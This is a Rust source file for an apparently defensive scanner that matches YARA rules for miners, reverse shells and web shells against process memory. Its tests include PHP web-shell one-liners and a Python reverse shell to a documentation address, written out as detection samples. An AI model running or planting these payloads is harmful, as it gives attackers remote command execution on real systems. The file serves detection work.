//! YARA rules over what stands in processes' memory: a few of ours, and operators' own.
//!
//! The two halves of a memory are searched apart: what the process is (its program, and what may be executed or cannot be
//! written to), and what it works with. Rules know which by the variable `memory`, `"program"` or `"data"`: words of a
//! miner are another thing in a program than in the text that an editor shows.

use std::{
    fmt, fs, io,
    ops::Range,
    path::{Path, PathBuf},
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use boreal::{
    Compiler, Scanner,
    memory::{FragmentedMemory, MemoryParams, Region, RegionDescription},
    scanner::{EvaluatedRule, FragmentedScanMode, ScanParams},
};

use tracing::warn;

use super::{
    Mapping, Maps, Target,
    pages::{Pages, Which},
};
use crate::event::{Backing, Signature};

/// Our own.
const RULES: [&str; 3] = [
    include_str!("../../../rules/yara/miner.yar"),
    include_str!("../../../rules/yara/reverse-shell.yar"),
    include_str!("../../../rules/yara/web-shell.yar"),
];

/// Where they are from, in place of a file.
const BUILT_IN: &str = "built-in";

/// The variable that says which half of a memory is searched.
const VARIABLE: &str = "memory";

/// How long one half of one process may take.
const LONGEST: Duration = Duration::from_secs(5);

/// Bytes that are read and searched at a time.
const PART: u64 = 4 << 20;

/// Rules that are told of one process.
const MOST: usize = 32;

/// Rules, ready to search.
pub struct Signatures {
    program: Scanner,
    data: Scanner,
}

impl Signatures {
    /// Our own rules, and those of these files and folders. A rule that is none is an error, which says where and why.
    pub fn load(own: &[PathBuf]) -> Result<Self> {
        let mut compiler = Compiler::new();
        compiler.define_symbol(VARIABLE, "");
        for text in RULES {
            compiler
                .add_rules_str_in_namespace(text, BUILT_IN)
                .context("our own YARA rules")?;
        }
        for path in own {
            let files = files(path).with_context(|| format!("cannot read {}", path.display()))?;
            ensure!(!files.is_empty(), "no *.yar or *.yara in {}", path.display());
            for file in files {
                // Two files may have a rule of the same name.
                compiler.add_rules_file_in_namespace(&file, file.display().to_string())?;
            }
        }
        let mut program = compiler.finalize();
        program.set_scan_params(
            ScanParams::default()
                .process_memory(true)
                .fragmented_scan_mode(FragmentedScanMode::single_pass())
                .timeout_duration(Some(LONGEST)),
        );
        let mut data = program.clone();
        program.define_symbol(VARIABLE, "program").context("our own variable")?;
        data.define_symbol(VARIABLE, "data").context("our own variable")?;
        Ok(Self { program, data })
    }

    /// The rules that match in a process, as one finding for each half; and whether there was time to search all of it.
    pub(super) fn find(&self, target: &mut Target<'_>) -> (Vec<Signature>, bool) {
        let maps = target.maps;
        let program = maps
            .iter()
            .find(|mapping| mapping.is_of_file())
            .map(|first| &*first.path);
        let is_program = |mapping: &&Mapping| match mapping.backing {
            Some(Backing::File) => program == Some(&*mapping.path) && !mapping.is_writable(),
            Some(_) => mapping.is_executable() || !mapping.is_writable(),
            None => false,
        };
        // What a file says is its own, and not worked with: the process's variables are.
        let is_data = |mapping: &&Mapping| {
            mapping.is_writable()
                && !mapping.is_executable()
                && mapping.backing.is_some_and(|backing| backing != Backing::File)
        };
        let program: Vec<_> = maps.iter().filter(is_program).collect();
        let data: Vec<_> = maps.iter().filter(is_data).collect();
        let halves = [(&self.program, program), (&self.data, data)];
        let (mut found, mut is_whole) = (Vec::new(), true);
        for (scanner, mappings) in halves {
            let (of_half, half_is_whole) = search(scanner, &mappings, target);
            found.extend(of_half);
            is_whole &= half_is_whole;
        }
        (found, is_whole)
    }
}

fn search(scanner: &Scanner, mappings: &[&Mapping], target: &mut Target<'_>) -> (Vec<Signature>, bool) {
    let parts = Parts::of(mappings, &mut target.pages);
    if parts.ranges.is_empty() {
        return (Vec::new(), true);
    }
    let (result, is_whole) = match scanner.scan_fragmented(parts) {
        Ok(result) => (result, true),
        // What was found before is true.
        Err((error, result)) => {
            warn!(pid = target.key.pid, %error, "memory not searched to its end");
            (result, false)
        }
    };
    let mut found: Vec<Signature> = Vec::new();
    for rule in result.rules.iter().take(MOST) {
        if let Some(known) = found.iter_mut().find(|known| *known.source == *rule.namespace) {
            add(known, scanner, rule);
        } else {
            let mut first = signature(target.maps, rule);
            add(&mut first, scanner, rule);
            found.push(first);
        }
    }
    (found, is_whole)
}

/// A finding for the rules of this one's file, at the place where this one matches.
fn signature(maps: &Maps, rule: &EvaluatedRule<'_>) -> Signature {
    let strings = rule.matches.iter().flat_map(|string| &string.matches);
    let mut mappings = strings.filter_map(|found| maps.at((found.base + found.offset) as u64));
    let mapping = mappings.next();
    Signature {
        source: rule.namespace.into(),
        rules: Vec::new(),
        tags: Vec::new(),
        backing: mapping.and_then(|mapping| mapping.backing).unwrap_or_default(),
        path: mapping.map(|mapping| mapping.path.clone()).unwrap_or_default(),
        address: mapping.map(Mapping::address).unwrap_or_default(),
    }
}

fn add(signature: &mut Signature, scanner: &Scanner, rule: &EvaluatedRule<'_>) {
    signature.rules.push(rule.name.into());
    for tag in rule.tags {
        let tag = scanner.get_string_symbol(*tag);
        if !signature.tags.iter().any(|known| **known == *tag) {
            signature.tags.push(tag.into());
        }
    }
}

/// The pages of one half of a memory that are there, for whoever searches.
struct Parts<'a, 'b> {
    pages: &'a mut Pages<'b>,
    ranges: Vec<Range<u64>>,
    next: usize,
    buffer: Vec<u8>,
}

impl<'a, 'b> Parts<'a, 'b> {
    /// Those of these mappings. What is more than may be read is left out: the last of them.
    fn of(mappings: &[&Mapping], pages: &'a mut Pages<'b>) -> Self {
        let mut ranges = Vec::new();
        let mut left = pages.left();
        for mapping in mappings.iter().filter(|mapping| mapping.is_readable()) {
            for range in pages.find(mapping, Which::Present) {
                let kept = left.min(range.end - range.start);
                pages.leave_out(range.end - range.start - kept);
                left -= kept;
                let end = range.start + kept;
                let starts = (range.start..end).step_by(PART as usize);
                ranges.extend(starts.map(|start| start..end.min(start + PART)));
            }
        }
        Self {
            pages,
            ranges,
            next: 0,
            buffer: Vec::new(),
        }
    }
}

impl FragmentedMemory for Parts<'_, '_> {
    fn next(&mut self, _: &MemoryParams) -> Option<RegionDescription> {
        let range = self.ranges.get(self.next)?;
        self.next += 1;
        Some(RegionDescription {
            start: range.start as usize,
            length: (range.end - range.start) as usize,
        })
    }

    fn fetch(&mut self, _: &MemoryParams) -> Option<Region<'_>> {
        let range = self.ranges.get(self.next.checked_sub(1)?)?;
        self.buffer.resize((range.end - range.start) as usize, 0);
        if self.pages.read(range.start, &mut self.buffer).is_none() {
            // A page of it went meanwhile: the others are there.
            let page = procfs::page_size();
            let pages = (range.start..).step_by(page as usize);
            for (address, bytes) in pages.zip(self.buffer.chunks_mut(page as usize)) {
                if self.pages.read(address, bytes).is_none() {
                    bytes.fill(0);
                }
            }
        }
        Some(Region {
            start: range.start as usize,
            mem: &self.buffer,
        })
    }

    fn reset(&mut self) {
        self.next = 0;
    }
}

impl fmt::Debug for Parts<'_, '_> {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter
            .debug_struct("Parts")
            .field("ranges", &self.ranges)
            .finish_non_exhaustive()
    }
}

/// A rule file, or those of a folder, by name.
fn files(path: &Path) -> io::Result<Vec<PathBuf>> {
    if !path.is_dir() {
        return Ok(vec![path.to_owned()]);
    }
    let entries = fs::read_dir(path)?.map(|entry| entry.map(|entry| entry.path()));
    let mut files = entries.collect::<io::Result<Vec<_>>>()?;
    files.retain(|file| {
        file.extension()
            .is_some_and(|ending| ending == "yar" || ending == "yara")
    });
    files.sort();
    Ok(files)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(half: impl Fn(&Signatures) -> &Scanner, text: &str, expected: &[&str]) {
        let signatures = Signatures::load(&[]).unwrap();
        let result = half(&signatures).scan_mem(text.as_bytes()).unwrap();
        let found: Vec<_> = result.rules.iter().map(|rule| rule.name).collect();
        assert_eq!(found, expected, "{text}");
    }

    #[test]
    fn our_rules_want_more_than_words() {
        let miner = "stratum+tcp:// mining.subscribe mining.authorize mining.submit";
        check(|all| &all.program, miner, &["tocsin_miner"]);
        check(|all| &all.data, miner, &[]);
        check(|all| &all.program, "stratum+tcp:// randomx hashrate", &[]);
        let by_algorithm = "stratum+ssl:// RandomX rx/0 hashrate donate-level";
        check(|all| &all.program, by_algorithm, &["tocsin_miner"]);
        check(
            |all| &all.data,
            "<?php @eval(base64_decode($_POST['x']));",
            &["tocsin_web_shell"],
        );
        check(|all| &all.data, "<?php system($_GET['c']);", &["tocsin_web_shell"]);
        check(|all| &all.data, "<?php eval($code); system('ls'); $_GET['c'];", &[]);
        let python = "import socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.1\",4444))\n\
                      os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")";
        check(|all| &all.data, python, &["tocsin_reverse_shell"]);
        check(
            |all| &all.data,
            "s.connect((\"192.0.2.1\",4444)); os.dup2(s.fileno(),0)",
            &[],
        );
    }

    #[test]
    fn a_rule_that_is_none_is_told_with_its_place() {
        let folder = tempfile::tempdir().unwrap();
        let refused = |text: &str| {
            fs::write(folder.path().join("own.yar"), text).unwrap();
            Signatures::load(&[folder.path().to_owned()])
                .err()
                .map(|error| format!("{error:#}"))
        };
        let error = refused("rule a {\n condition:\n  $missing\n}").unwrap();
        assert!(error.contains("own.yar:3:") && error.contains("missing"), "{error}");
        let error = refused("rule a {\n condition true }").unwrap();
        assert!(error.contains("own.yar:2:"), "{error}");
        assert_eq!(refused("rule a { condition: memory == \"data\" }"), None);
        fs::remove_file(folder.path().join("own.yar")).unwrap();
        let error = Signatures::load(&[folder.path().to_owned()]).err().unwrap();
        assert!(error.to_string().contains("no *.yar"), "{error}");
    }
}
